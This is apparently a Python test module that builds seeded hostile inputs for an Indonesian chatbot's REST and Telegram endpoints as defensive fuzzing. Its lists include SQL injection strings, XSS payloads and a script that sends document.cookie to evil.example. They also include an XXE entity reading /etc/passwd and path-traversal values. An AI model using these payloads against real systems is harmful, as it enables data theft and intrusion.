"""Seeded, categorised hostile inputs for the REST channel and the Telegram webhook (test_hostile.py).

The same size and seed always give the same inputs, so a failure can be replayed. Every category
has a core (always included, the reduced CI run too) and seeded variants that fill it up to its
share of the size. `hostile_size()` reads the size: HOSTILE_COUNT=<n> per channel, HOSTILE_FULL=1
for the full run (1,200 per channel), else the reduced CI run (200 per channel).

Personal data is generated (never real) and remembered as *needles*: the identifying digits or the
address, which must not be found in any database row or log after the run. Payload syntax carries
SENTINEL as every slot and entity value, which must never reach a slot or an entity.
"""

from __future__ import annotations

import json
import os
import random
import re
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

import yaml

from tests.e2e.fake_telegram import STICKER

SEED = 20261126
REDUCED = 200
FULL = 1200
SENTINEL = "zzhostilezz"
BOT_USERNAME = "asisten_umkm_test_bot"
# Stand-ins the test replaces with the chat (and user) id it assigns to an update.
CHAT = -999_999_001
GROUP = -999_999_002
USER = -999_999_003
ROOT = Path(__file__).resolve().parents[2]


def hostile_size(env: dict[str, str] | None = None) -> int:
    env = dict(os.environ if env is None else env)
    if env.get("HOSTILE_COUNT"):
        return max(int(env["HOSTILE_COUNT"]), 50)
    return FULL if env.get("HOSTILE_FULL") == "1" else REDUCED


# --------------------------------------------------------------------------------------------
# Cases
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class TextCase:
    """A message a user types; sent over REST as {"sender", "message"} and to the bot as a text update."""

    category: str
    text: str
    needles: tuple[str, ...] = ()
    # Payload syntax is judged on a conversation of its own: nothing before it offered a button.
    fresh: bool = False


@dataclass(frozen=True)
class RestCase:
    category: str
    body: bytes
    expect: Literal["reply", "4xx"]
    content_type: str = "application/json"
    needles: tuple[str, ...] = ()
    sender: str | None = None  # the conversation, when the body has a valid one


Expect = Literal["reply", "silent", "4xx", "403", "any"]


@dataclass(frozen=True)
class BotCase:
    """A raw webhook POST. `update` has CHAT/GROUP/USER stand-ins; `body` (if set) is sent as is.

    expect: reply = 200 and at least one non-empty answer in its chat; silent = 200 (or a 4xx for
    kinds this library version cannot read) and nothing sent to its chat; 4xx; 403 = refused for
    the secret, nothing sent; any = no 5xx, nothing else promised (mistyped fields).
    """

    category: str
    expect: Expect
    update: dict[str, Any] | None = None
    body: bytes | None = None
    secret: Literal["valid", "missing", "forged"] = "valid"
    content_type: str = "application/json"
    method: str = "POST"
    needles: tuple[str, ...] = ()
    fresh: bool = False
    group: bool = False  # replies go to the group chat
    extra: dict[str, Any] = field(default_factory=dict)


# --------------------------------------------------------------------------------------------
# Building blocks
# --------------------------------------------------------------------------------------------

WORDS = (
    "iuran",
    "jkm",
    "jkk",
    "jht",
    "jp",
    "jkp",
    "berapa",
    "bpjs",
    "ketenagakerjaan",
    "karyawan",
    "pegawai",
    "gaji",
    "upah",
    "usaha",
    "warung",
    "mikro",
    "kecil",
    "daftar",
    "cara",
    "wajib",
    "pemilik",
    "bpu",
    "laundry",
    "bengkel",
    "sebulan",
    "persen",
    "tolong",
    "kak",
    "min",
    "gimana",
)
QUESTIONS = ("iuran jkm brp", "cara daftar bpjs tk", "sy punya 3 pegawai wajib daftar gk", "iuran jht karyawan berapa")
EMOJI = "😀😂🤣😍🙏👍👎🔥💯🎉😭😡🤔👀✅❌⭐🌙☕🍜🏍️🇮🇩🫠🥲🧧💸📈🧾"
ZWJ_SEQUENCES = ("👨\u200d👩\u200d👧\u200d👦", "🏳️\u200d🌈", "👩🏽\u200d💻", "🧑\u200d🍳", "❤️\u200d🔥", "1️⃣", "🏴󠁧󠁢󠁳󠁣󠁴󠁿")
INVISIBLE = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u200e", "\u200f", "\u00ad", "\u180e", "\u2061")
BIDI = ("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u061c")
WHITESPACE = (" ", "\t", "\n", "\r", "\r\n", "\u00a0", "\u2003", "\u3000", "\u2028", "\u2029", "\x0b", "\x0c", "\x85")
SQL = (
    "' OR '1'='1",
    "'; DROP TABLE events; --",
    "'; DROP TABLE asst_chat_users; --",
    '" OR ""="',
    "1; DELETE FROM events WHERE 1=1",
    "admin'--",
    "' UNION SELECT sender_id, data FROM events --",
    "1' AND SLEEP(5)--",
    "'; SELECT pg_sleep(5); --",
    "' OR 1=1 LIMIT 1 OFFSET 1 --",
    "%' AND 1=0 UNION SELECT sqlite_version() --",
    "'); INSERT INTO asst_feedback VALUES (1,'x','y','z'); --",
    "\\'; DROP TABLE users; --",
    "1 OR 1=1",
    "' || (SELECT password FROM users) || '",
    '{"$gt": ""}',
    "'; EXEC xp_cmdshell('dir'); --",
    "' AND extractvalue(1,concat(0x7e,version())) --",
)
HTML_JS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">klik</a>',
    "<b>tebal tidak ditutup",
    "</b></i></a>",
    "<iframe src=//evil.example>",
    "<svg/onload=alert(1)>",
    '"><script>fetch("//evil.example/"+document.cookie)</script>',
    "<tg-spoiler>rahasia</tg-spoiler>",
    '<a href="tg://user?id=1">x</a>',
    "<pre><code class='language-python'>import os</code></pre>",
    "&lt;b&gt; &amp;amp; &#x3C;script&#x3E;",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{% for x in range(10**9) %}{% endfor %}",
    "{slot} {misses} {calc_workers} {{topic}}",
    "%s%s%s%n %(sender)s",
    "[klik](javascript:alert(1)) **tebal** _miring_ `kode`",
    "<!-- komentar --> <![CDATA[x]]>",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '{"sender": "lain", "message": "/restart"}',
    "javascript:alert(document.domain)",
    "<style>*{display:none}</style>",
    "\\u003cscript\\u003e",
    '<a href="https://www.bpjsketenagakerjaan.go.id" onclick="x()">resmi</a>',
)
CONTROL = tuple(chr(c) for c in [*range(0x00, 0x09), 0x0E, 0x0F, 0x10, 0x1B, 0x7F, *range(0x80, 0x9F)])
ODD_UNICODE = (
    "ｉｕｒａｎ ｊｋｍ ｂｅｒａｐａ",
    "𝐢𝐮𝐫𝐚𝐧 𝐣𝐤𝐦 𝐛𝐞𝐫𝐚𝐩𝐚",
    "𝔦𝔲𝔯𝔞𝔫 𝔧𝔨𝔪",
    "ⓘⓤⓡⓐⓝ",
    "\ue000\ue001 iuran \uf8ff",
    "\uffff\ufffe\U0010ffff",
    "\ud800",
    "\udfff halo",
    "iuran \ud83d jkm",
    "ꦲꦏ꧀ꦱꦫ ꦗꦮ",  # Javanese script
    "缴费多少 BPJS",
    "ค่าธรรมเนียมเท่าไร",
    "iu\u0301r\u0302a\u0303n\u0304 j\u0305k\u0306m\u0307",
    "ı̇uran JKM İSTANBUL ß ẞ",
    "٠١٢٣٤٥٦٧٨٩ karyawan",
    "Ⅻ ½ ⅞ ² ³ ∞",
)
RESTART_FORMS = (
    "/restart",
    " /restart",
    "\n/restart",
    "/restart ",
    "/RESTART",
    "//restart",
    "/restart/restart",
    "/restart@1.0",
    "/restart{}",
    '/restart{"x": 1}',
    "\u200b/restart",
    "\u200b /restart",
    "\ufeff/restart",
    "\u202e/restart",
    "\x00/restart",
    "／restart",
    "/session_start",
    "/back",
    "/nlu_fallback",
    "/out_of_scope",
    "/restart\n/restart",
    "/",
    "/ ",
    "/@",
    "/{}",
    "/greet@0.0",
    "/help@1",
    '/faq{"x": "y"}',
    "/faq/iuran_jkm",
    '/choose_topic{"topic":"does_not_exist"}',
)


def _load_domain() -> dict[str, Any]:
    data = yaml.safe_load((ROOT / "domain.yml").read_text(encoding="utf-8"))
    return data if isinstance(data, dict) else {}


def payload_injections() -> list[str]:
    """Rasa payload syntax for every intent, every slot and every entity of domain.yml."""
    domain = _load_domain()
    intents = [i if isinstance(i, str) else next(iter(i)) for i in domain.get("intents", [])]
    slots = [*domain.get("slots", {}), "requested_slot", "session_started_metadata"]
    entities = [e if isinstance(e, str) else next(iter(e)) for e in domain.get("entities", [])]
    forms = [*domain.get("forms", {})]
    out: list[str] = []
    all_slots = json.dumps(dict.fromkeys(slots, SENTINEL))
    all_entities = json.dumps(dict.fromkeys(entities, SENTINEL))
    for index, intent in enumerate(intents):
        slot = slots[index % len(slots)]
        entity = entities[index % len(entities)]
        out += [
            f'/{intent}{{"{slot}": "{SENTINEL}"}}',
            f'/{intent}{{"{entity}": "{SENTINEL}"}}',
            f"/{intent}@1.0{all_slots}",
            f"/{intent}{all_entities}",
        ]
    for slot in slots:
        out.append(f'/calc_iuran{{"{slot}": "{SENTINEL}"}}')
        out.append(f'/calc_iuran{{"{slot}": 9{SENTINEL}9}}')  # not JSON: "Failed to parse" path
    for form in forms:
        out.append(f'/calc_iuran{{"active_loop": "{form}", "requested_slot": "{SENTINEL}"}}')
    out += [
        f'/calc_iuran{{"calc_workers": "{SENTINEL}", "calc_wages": "{SENTINEL}", "calc_risk": "{SENTINEL}"}}',
        f'/calc_iuran{{"calc_target": "{SENTINEL}"',  # unterminated
        f"/calc_iuran{{{{{{{SENTINEL}}}}}}}",
        f'/calc_iuran{{"calc_workers": ["{SENTINEL}"], "misses": {{"{SENTINEL}": 1}}}}',
    ]
    return out


def _words(rng: random.Random, count: int) -> str:
    return " ".join(rng.choice(WORDS) for _ in range(count))


# --- personal data (generated, never real) -------------------------------------------------------


def _nik(rng: random.Random) -> str:
    return f"{rng.randint(11, 94)}{rng.randint(1, 79):02d}{rng.randint(1, 40):02d}" + "".join(
        str(rng.randint(0, 9)) for _ in range(10)
    )


def _phone_digits(rng: random.Random) -> str:
    """National significant number: 8, operator digits, subscriber digits (10-12 digits)."""
    return (
        "8"
        + rng.choice(["11", "12", "13", "21", "22", "52", "53", "55", "56", "57", "58", "77", "78", "95", "96"])
        + ("".join(str(rng.randint(0, 9)) for _ in range(rng.randint(7, 8))))
    )


def _email(rng: random.Random) -> str:
    first = rng.choice(["budi", "siti", "agus", "dewi", "rina", "joko", "made", "putu", "wayan", "nur"])
    last = rng.choice(["santoso", "rahayu", "wijaya", "lestari", "hidayat", "saputra", "pratama"])
    sep = rng.choice([".", "_", "", "-", "+umkm."])
    domain = rng.choice(["gmail.com", "yahoo.co.id", "warungku.id", "mail.umkm.co.id", "outlook.com"])
    return f"{first}{sep}{last}{rng.randint(1, 999)}@{domain}"


def _card(rng: random.Random) -> str:
    return rng.choice(["4", "5"]) + "".join(str(rng.randint(0, 9)) for _ in range(15))


def _grouped(digits: str, sizes: list[int], sep: str) -> str:
    parts, at = [], 0
    for size in sizes:
        parts.append(digits[at : at + size])
        at += size
    if at < len(digits):
        parts.append(digits[at:])
    return sep.join(p for p in parts if p)


def _fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "0" <= c <= "9" else c for c in text)


def _spread(text: str, rng: random.Random) -> str:
    """Invisible characters between the digits."""
    return "".join(c + (rng.choice(INVISIBLE) if c.isdigit() and rng.random() < 0.5 else "") for c in text)


def nik_forms(nik: str, rng: random.Random) -> list[str]:
    return [
        nik,
        _grouped(nik, [4, 4, 4], " "),
        _grouped(nik, [4, 4, 4], "-"),
        _grouped(nik, [4, 4, 4], "."),
        _fullwidth(nik),
        _spread(nik, rng),
    ]


def phone_forms(national: str, rng: random.Random) -> list[str]:
    local = "0" + national
    return [
        local,
        "+62" + national,
        "62" + national,
        _grouped(local, [4, 4], "-"),
        _grouped(local, [4, 4], " "),
        "+62 " + _grouped(national, [3, 4], "-"),
        "+62 " + _grouped(national, [3, 4], " "),
        f"({local[:4]}) {_grouped(local[4:], [4], '-')}",
        _grouped(local, [4, 4], "."),
        "wa.me/62" + national,
        _fullwidth(local),
        _spread(local, rng),
    ]


PII_TEMPLATES = (
    "nik saya {x} mau daftar bpjs tk",
    "NIK:{x}",
    "nik{x}",
    "tolong cek {x} sudah terdaftar belum",
    "{x}",
    "hubungi saya di {x} ya kak",
    "hp:{x} wa aktif",
    "ini nomor kk saya {x}, iuran jkm brp?",
    "email saya {x} tolong kirim rinciannya",
    "kartu {x}",
    "{x}.",
    "<b>{x}</b>",
    "\u202e{x}\u202c",
    "{x} 😀😀",
)


def _pii_case(rng: random.Random, kind: str) -> TextCase:
    if kind == "nik":
        value = _nik(rng)
        shown, needle = rng.choice(nik_forms(value, rng)), value
    elif kind == "phone":
        national = _phone_digits(rng)
        shown, needle = rng.choice(phone_forms(national, rng)), national
    elif kind == "email":
        value = _email(rng)
        shown = rng.choice([value, value.upper(), f"mailto:{value}", f"<{value}>"])
        needle = value.lower()
    else:
        value = _card(rng)
        shown, needle = rng.choice([value, _grouped(value, [4, 4, 4], " "), _grouped(value, [4, 4, 4], "-")]), value
    return TextCase("pii", rng.choice(PII_TEMPLATES).format(x=shown), (needle,))


def _pii_many(rng: random.Random) -> TextCase:
    nik, national, email = _nik(rng), _phone_digits(rng), _email(rng)
    text = (
        f"nama budi, nik {rng.choice(nik_forms(nik, rng))}, hp {rng.choice(phone_forms(national, rng))}, "
        f"email {email}, {rng.choice(QUESTIONS)}"
    )
    return TextCase("pii", text, (nik, national, email.lower()))


# --------------------------------------------------------------------------------------------
# Text categories: core first, then seeded variants
# --------------------------------------------------------------------------------------------


def _empty(rng: random.Random) -> Iterator[TextCase]:
    for text in ["", "\x00", "\u200b", "\ufeff", "\u200e\u200f", "\x00\x00\x00", "\u2060" * 50, "\x1b"]:
        yield TextCase("empty", text)
    while True:
        yield TextCase("empty", "".join(rng.choice((*INVISIBLE, "\x00")) for _ in range(rng.randint(1, 40))))


def _whitespace(rng: random.Random) -> Iterator[TextCase]:
    for text in [" ", "   ", "\n", "\n\n\n", "\t", "\r\n", "\u3000", "\u00a0", "\u2028\u2029", " " * 5000]:
        yield TextCase("whitespace", text)
    while True:
        yield TextCase("whitespace", "".join(rng.choice(WHITESPACE) for _ in range(rng.randint(1, 300))))


def _long(rng: random.Random) -> Iterator[TextCase]:
    yield TextCase("long", (_words(rng, 2000) + " ")[:10_000])
    yield TextCase("long", "a" * 10_000)
    yield TextCase("long", "1" * 10_000)
    yield TextCase("long", ("iuran jkm berapa?\n\n" * 600)[:10_000])
    nik = _nik(rng)
    # An identifier across the 4,000-character cut must be masked, not stored half.
    yield TextCase("long", "x" * 3990 + f" nik {nik} " + "y" * 6000, (nik,))
    email = _email(rng)
    yield TextCase("long", "iuran " * 700 + email + " cek " * 1500, (email.lower(),))
    while True:
        size = rng.choice([4001, 4096, 4097, 5000, 8000, 10_000, 12_000])
        kind = rng.randrange(4)
        if kind == 0:
            text = (_words(rng, size // 3) + " ")[:size]
        elif kind == 1:
            text = rng.choice("ab1 .-@") * size
        elif kind == 2:
            text = "".join(rng.choice(EMOJI + "iuran ") for _ in range(size))
        else:
            text = ("".join(rng.choice(WORDS) + rng.choice(WHITESPACE) for _ in range(size // 5)))[:size]
        yield TextCase("long", text)


def _sprinkle(rng: random.Random, marks: tuple[str, ...], most: int) -> list[str]:
    """A question's characters with 1 to `most` of `marks` inserted at random places."""
    chars = list(rng.choice(QUESTIONS))
    for _ in range(rng.randint(1, most)):
        chars.insert(rng.randrange(len(chars) + 1), rng.choice(marks))
    return chars


def _control(rng: random.Random) -> Iterator[TextCase]:
    for text in [
        "\x00iuran jkm",
        "iuran\x00jkm",
        "\x1b[31miuran\x1b[0m",
        "\x1b]0;judul\x07",
        "\x08\x08\x08iuran",
        "\x7f" * 20,
    ]:
        yield TextCase("control", text)
    yield TextCase("control", "".join(CONTROL))
    while True:
        yield TextCase("control", "".join(_sprinkle(rng, CONTROL, 30)))


def _bidi_zero_width(rng: random.Random) -> Iterator[TextCase]:
    for text in [
        "\u202eiuran jkm berapa",
        "\u202emkj naruI",
        "ما هي اشتراكات BPJS؟",
        "מה העלות של BPJS",
        "\u2067iuran\u2069 jkm",
        "i\u200bu\u200br\u200ba\u200bn j\u200bk\u200bm",
        "\ufeffiuran jkm",
        "iuran\u200d\u200d\u200d jkm",
        "\u200e\u200f" * 100 + "iuran",
        "".join(BIDI) + "iuran jkm brp" + "".join(BIDI),
    ]:
        yield TextCase("bidi_zero_width", text)
    while True:
        chars = _sprinkle(rng, INVISIBLE + BIDI, 40)
        if rng.random() < 0.3:
            chars = ["\u202e", *reversed(chars)]
        yield TextCase("bidi_zero_width", "".join(chars))


def _emoji(rng: random.Random) -> Iterator[TextCase]:
    yield TextCase("emoji", "😀" * 500)
    yield TextCase("emoji", "👍")
    yield TextCase("emoji", "".join(ZWJ_SEQUENCES) * 50)
    yield TextCase("emoji", "🇮🇩" * 1000)
    yield TextCase("emoji", "iuran jkm 🙏🙏🙏 brp kak 😭")
    while True:
        count = rng.choice([1, 3, 50, 400, 1500, 4000])
        pool = EMOJI + "".join(ZWJ_SEQUENCES)
        text = "".join(rng.choice(pool) for _ in range(count))
        if rng.random() < 0.4:
            text = rng.choice(QUESTIONS) + " " + text
        yield TextCase("emoji", text)


def _unicode_odd(rng: random.Random) -> Iterator[TextCase]:
    for text in ODD_UNICODE:
        yield TextCase("unicode_odd", text)
    while True:
        base = rng.choice(QUESTIONS)
        kind = rng.randrange(3)
        if kind == 0:  # "zalgo": many combining marks
            text = "".join(c + "".join(chr(rng.randint(0x300, 0x36F)) for _ in range(rng.randint(0, 12))) for c in base)
        elif kind == 1:
            text = "".join(chr(rng.randint(0xD800, 0xDFFF)) if rng.random() < 0.2 else c for c in base)
        else:
            text = "".join(
                chr(
                    rng.choice(
                        [rng.randint(0x4E00, 0x9FFF), rng.randint(0xE000, 0xF8FF), rng.randint(0x1F300, 0x1FAFF)]
                    )
                )
                for _ in range(rng.randint(1, 200))
            )
        yield TextCase("unicode_odd", text)


def _sql(rng: random.Random) -> Iterator[TextCase]:
    for text in SQL:
        yield TextCase("sql_injection", text)
    while True:
        yield TextCase("sql_injection", f"{rng.choice(QUESTIONS)} {rng.choice(SQL)} {rng.choice(SQL)}")


def _html(rng: random.Random) -> Iterator[TextCase]:
    for text in HTML_JS:
        yield TextCase("html_js", text)
    while True:
        yield TextCase("html_js", f"{rng.choice(HTML_JS)} {rng.choice(QUESTIONS)} {rng.choice(HTML_JS)}")


def _payload(rng: random.Random) -> Iterator[TextCase]:
    injections = payload_injections()
    # Core: every way of typing /restart and /calc_iuran{all our slots}.
    for text in RESTART_FORMS[:12]:
        yield TextCase("rasa_payload", text, fresh=True)
    yield TextCase("rasa_payload", injections[-4], fresh=True)
    yield TextCase("rasa_payload", next(i for i in injections if i.startswith('/choose_topic{"topic"')), fresh=True)
    rest = list(RESTART_FORMS[12:]) + injections
    rng.shuffle(rest)
    for text in rest:
        yield TextCase("rasa_payload", text, fresh=True)
    while True:
        yield TextCase("rasa_payload", rng.choice(rest), fresh=True)


def _pii(rng: random.Random) -> Iterator[TextCase]:
    for kind in ("nik", "phone", "email", "card"):
        yield _pii_case(rng, kind)
    yield _pii_many(rng)
    while True:
        yield _pii_many(rng) if rng.random() < 0.2 else _pii_case(rng, rng.choice(["nik", "phone", "phone", "email"]))


CALC_ANSWERS = (
    "-1",
    "0",
    "-0",
    "999999999999999999999999999999",
    "9" * 400,
    "1e309",
    "1e-309",
    "NaN",
    "inf",
    "-inf",
    "∞",
    "1/0",
    "10**100",
    "2^64",
    "0x10",
    "3,5,5 juta",
    "Rp 1.000.000.000.000.000.000.000",
    "rp -3.500.000",
    "satu miliar triliun",
    "٣ karyawan",
    "½",
    "3.5.5.5",
    "1,0000000000000000001",
    "18446744073709551617 orang",
)


def _calculator(rng: random.Random) -> Iterator[TextCase]:
    """Hostile answers to the calculator's questions, in a conversation that keeps restarting it."""
    yield TextCase("calculator", "/calc_iuran")
    for answer in CALC_ANSWERS:
        yield TextCase("calculator", answer)
    while True:
        if rng.random() < 0.15:
            yield TextCase("calculator", rng.choice(["/calc_iuran", "hitung iuran karyawan", "batal"]))
        yield TextCase("calculator", rng.choice((*CALC_ANSWERS, "karyawan", "pemilik", "3", "3,5 juta", "rendah")))


def _mixed(rng: random.Random) -> Iterator[TextCase]:
    while True:
        nik = _nik(rng)
        parts = [
            rng.choice(QUESTIONS),
            rng.choice(SQL),
            rng.choice(HTML_JS),
            rng.choice(RESTART_FORMS),
            rng.choice(EMOJI) * rng.randint(1, 30),
            rng.choice(BIDI + INVISIBLE),
            f"nik {rng.choice(nik_forms(nik, rng))}",
        ]
        rng.shuffle(parts)
        text = " ".join(parts)
        # Starting with "/" would make it payload syntax, judged in its own category.
        yield TextCase("mixed", text if not text.lstrip().startswith(("/", "\u200b/")) else "x " + text, (nik,))


TEXT_CATEGORIES: dict[str, tuple[Callable[[random.Random], Iterator[TextCase]], float]] = {
    "empty": (_empty, 0.5),
    "whitespace": (_whitespace, 0.5),
    "long": (_long, 0.7),
    "control": (_control, 0.7),
    "bidi_zero_width": (_bidi_zero_width, 0.8),
    "emoji": (_emoji, 0.7),
    "unicode_odd": (_unicode_odd, 0.8),
    "sql_injection": (_sql, 0.8),
    "html_js": (_html, 0.9),
    "rasa_payload": (_payload, 1.6),
    "pii": (_pii, 1.6),
    "calculator": (_calculator, 1.0),
    "mixed": (_mixed, 0.8),
}


def _take(generator: Iterator[Any], count: int) -> list[Any]:
    return [next(generator) for _ in range(count)]


def _quotas(categories: dict[str, float], total: int, minimum: int) -> dict[str, int]:
    weight = sum(categories.values())
    return {name: max(minimum, round(total * share / weight)) for name, share in categories.items()}


def text_cases(total: int, seed: int = SEED, minimum: int = 6) -> list[TextCase]:
    quotas = _quotas({k: w for k, (_, w) in TEXT_CATEGORIES.items()}, total, minimum)
    cases: list[TextCase] = []
    for index, (name, (make, _)) in enumerate(TEXT_CATEGORIES.items()):
        cases += _take(make(random.Random(seed * 1000 + index)), quotas[name])
    return cases


# --------------------------------------------------------------------------------------------
# REST: text cases as bodies, plus bodies only an HTTP client can send
# --------------------------------------------------------------------------------------------


def _json(value: Any) -> bytes:
    try:
        return json.dumps(value, ensure_ascii=False).encode("utf-8")
    except UnicodeEncodeError:  # lone surrogates: only the escaped form is valid UTF-8
        return json.dumps(value).encode("utf-8")


def rest_malformed(rng: random.Random) -> Iterator[RestCase]:
    def bad(body: bytes, content_type: str = "application/json") -> RestCase:
        return RestCase("malformed_body", body, "4xx", content_type)

    for body in [
        b"",
        b"not json",
        b"{",
        b'{"sender": "a", "message": "x"',
        b'{"sender": "a", "message": "x"} trailing',
        b"{'sender': 'a', 'message': 'x'}",
        b'{"sender": "a", /* komentar */ "message": "x"}',
        b"\xff\xfe\xfd",
        b'{"sender": "a", "message": "\xc3\x28"}',
        '{"sender": "a", "message": "h\xe9"}'.encode("latin-1"),
        b"\xef\xbb\xbf\xef\xbb\xbf{}",
        b"[" * 100_000 + b"]" * 100_000,
        b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
        b'{"sender": "a", "message": "x", "metadata": ' + b"[" * 5000 + b"]" * 5000 + b"}",
        b'{"sender": "a", "message": ' + b"1" * 5000 + b"}",
        b"null",
        b"true",
        b"42",
        b'"sender"',
        b"[]",
        b'[{"sender": "a", "message": "x"}]',
        b"\x00" * 100,
    ]:
        yield bad(body)
    while True:
        good = _json({"sender": "rest-malformed", "message": rng.choice(QUESTIONS)})
        cut = rng.randrange(1, len(good) - 1)
        yield bad(good[:cut] if rng.random() < 0.5 else good[:cut] + bytes([rng.randrange(128, 256)]) + good[cut:])


def rest_wrong_types(rng: random.Random) -> Iterator[RestCase]:
    senders: list[Any] = [
        None,
        5,
        5.5,
        True,
        [],
        {},
        ["a"],
        "",
        "   ",
        "\t\n",
        "x" * 129,
        "a\x00b",
        "\ud800",
        "a\x1bb",
        "\u200b",
    ]
    messages: list[Any] = [None, 5, True, [], {}, ["iuran"], {"text": "iuran"}]
    metadata: list[Any] = [
        [],
        "source",
        5,
        True,
        [{"source": "x"}],
        {"a": {"b": {"c": {"d": {"e": {"f": {"g": {"h": {"i": {"j": 1}}}}}}}}}},
        {"x": "y" * 5000},
    ]
    for value in senders:
        yield RestCase("wrong_types", _json({"sender": value, "message": "iuran jkm"}), "4xx")
    yield RestCase("wrong_types", _json({"message": "iuran jkm"}), "4xx")
    for value in messages:
        yield RestCase("wrong_types", _json({"sender": "rest-types", "message": value}), "4xx")
    yield RestCase("wrong_types", _json({"sender": "rest-types"}), "4xx")
    for value in metadata:
        yield RestCase("wrong_types", _json({"sender": "rest-types", "message": "halo", "metadata": value}), "4xx")
    while True:
        body: dict[str, Any] = {"sender": "rest-types", "message": "halo"}
        key = rng.choice(["sender", "message", "metadata"])
        body[key] = rng.choice({"sender": senders, "message": messages, "metadata": metadata}[key])
        if key == "metadata" and body[key] is None:
            body[key] = 7
        yield RestCase("wrong_types", _json(body), "4xx")


def rest_odd_bodies(rng: random.Random) -> Iterator[RestCase]:
    def ok(
        body: Any,
        sender: str,
        needles: tuple[str, ...] = (),
        content_type: str = "application/json",
        raw: bytes | None = None,
    ) -> RestCase:
        return RestCase("odd_body", raw if raw is not None else _json(body), "reply", content_type, needles, sender)

    phone, nik, email = _phone_digits(rng), _nik(rng), _email(rng)
    yield ok({"sender": "rest-odd", "message": "halo", "extra": [1, 2, 3]}, "rest-odd")
    yield ok(None, "rest-odd", raw=b'{"sender": "rest-odd", "message": "x", "message": "iuran jkm brp"}')
    yield ok(None, "rest-odd", raw='{"sender": "rest-odd", "message": "iuran jkm brp"}'.encode("utf-16"))
    yield ok({"sender": "rest-odd", "message": "iuran jkm"}, "rest-odd", content_type="text/plain")
    yield ok(
        {"sender": "rest-odd", "message": "iuran jkm"}, "rest-odd", content_type="application/x-www-form-urlencoded"
    )
    yield ok({"sender": "rest-odd", "message": "halo", "metadata": None}, "rest-odd")
    yield ok({"sender": "rest-odd", "message": "halo", "metadata": {"n": float("nan"), "i": float("inf")}}, "rest-odd")
    # A WhatsApp gateway's sender is a phone number: it must not be stored as it is.
    yield ok({"sender": "62" + phone, "message": "iuran jkm brp"}, "62" + phone, (phone,))
    yield ok({"sender": email, "message": "halo"}, email, (email.lower(),))
    yield ok({"sender": nik, "message": "halo"}, nik, (nik,))
    meta_phone, meta_nik = _phone_digits(rng), _nik(rng)
    yield ok(
        {
            "sender": "rest-meta",
            "message": "halo",
            "metadata": {"source": "0" + meta_phone, "user": {"nik": [meta_nik]}},
        },
        "rest-meta",
        (meta_phone, meta_nik),
    )
    number_phone = _phone_digits(rng)
    yield ok(
        {"sender": "rest-meta", "message": "halo", "metadata": {"phone": int("62" + number_phone)}},
        "rest-meta",
        (number_phone,),
    )
    yield ok({"sender": "pengguna-ü-🙂-ꦲ", "message": "iuran jkm brp"}, "pengguna-ü-🙂-ꦲ")
    yield ok({"sender": "s" * 128, "message": "halo"}, "s" * 128)
    yield ok({"sender": "'; DROP TABLE events; --", "message": "halo"}, "'; DROP TABLE events; --")
    yield ok({"sender": "<script>alert(1)</script>", "message": "halo"}, "<script>alert(1)</script>")
    yield ok({"sender": "../../etc/passwd", "message": "halo"}, "../../etc/passwd")
    while True:
        sender = f"rest-odd-{rng.randrange(4)}"
        kind = rng.randrange(3)
        if kind == 0:
            national = _phone_digits(rng)
            yield ok({"sender": "0" + national, "message": rng.choice(QUESTIONS)}, "0" + national, (national,))
        elif kind == 1:
            value = _nik(rng)
            yield ok({"sender": sender, "message": "halo", "metadata": {"source": value}}, sender, (value,))
        else:
            yield ok(
                {"sender": sender, "message": rng.choice(QUESTIONS), "metadata": {"k": "v" * rng.randint(0, 3000)}},
                sender,
            )


REST_ONLY: dict[str, tuple[Callable[[random.Random], Iterator[RestCase]], float]] = {
    "malformed_body": (rest_malformed, 1.0),
    "wrong_types": (rest_wrong_types, 1.0),
    "odd_body": (rest_odd_bodies, 0.8),
}


def rest_cases(total: int, seed: int = SEED) -> tuple[list[TextCase], list[RestCase]]:
    """Text cases (the test picks their senders) and raw bodies; about `total` together."""
    raw_total = max(60, total // 5)
    texts = text_cases(total - raw_total, seed)
    quotas = _quotas({k: w for k, (_, w) in REST_ONLY.items()}, raw_total, 8)
    raw: list[RestCase] = []
    for index, (name, (make, _)) in enumerate(REST_ONLY.items()):
        raw += _take(make(random.Random(seed * 2000 + index)), quotas[name])
    return texts, raw


# --------------------------------------------------------------------------------------------
# Telegram: text cases as updates, plus updates only Telegram (or a forger) sends
# --------------------------------------------------------------------------------------------


def _user(user_id: int = USER) -> dict[str, Any]:
    return {"id": user_id, "is_bot": False, "first_name": "Budi", "language_code": "id"}


def _chat(chat_id: int = CHAT) -> dict[str, Any]:
    if chat_id == GROUP:
        return {"id": GROUP, "type": "group", "title": "Paguyuban UMKM"}
    return {"id": chat_id, "type": "private", "first_name": "Budi"}


def _command_entity(text: str) -> list[dict[str, Any]]:
    match = re.match(r"/[A-Za-z0-9_]{1,32}(?:@[A-Za-z0-9_]{3,32})?", text)
    return [{"type": "bot_command", "offset": 0, "length": len(match.group(0))}] if match else []


def message(text: str | None = None, chat: int = CHAT, **extra: Any) -> dict[str, Any]:
    body: dict[str, Any] = {"message_id": 1, "date": 1_764_000_000, "chat": _chat(chat), "from": _user()}
    if text is not None:
        body["text"] = text
        entities = _command_entity(text)
        if entities:
            body["entities"] = entities
    body.update(extra)
    return body


def text_update(text: str) -> dict[str, Any]:
    return {"message": message(text)}


def _callback(data: Any, with_message: bool = True, **extra: Any) -> dict[str, Any]:
    query: dict[str, Any] = {"id": "cb-hostile", "from": _user(), "chat_instance": "ci-1"}
    if data is not None:
        query["data"] = data
    if with_message:
        query["message"] = {
            "message_id": 1001,
            "date": 1_764_000_000,
            "chat": _chat(),
            "from": {"id": 777000, "is_bot": True, "first_name": "Asisten UMKM", "username": BOT_USERNAME},
            "text": "menu",
        }
    query.update(extra)
    return {"callback_query": query}


PHOTO = [{"file_id": "AgAC", "file_unique_id": "AQAD", "width": 90, "height": 90, "file_size": 1000}]
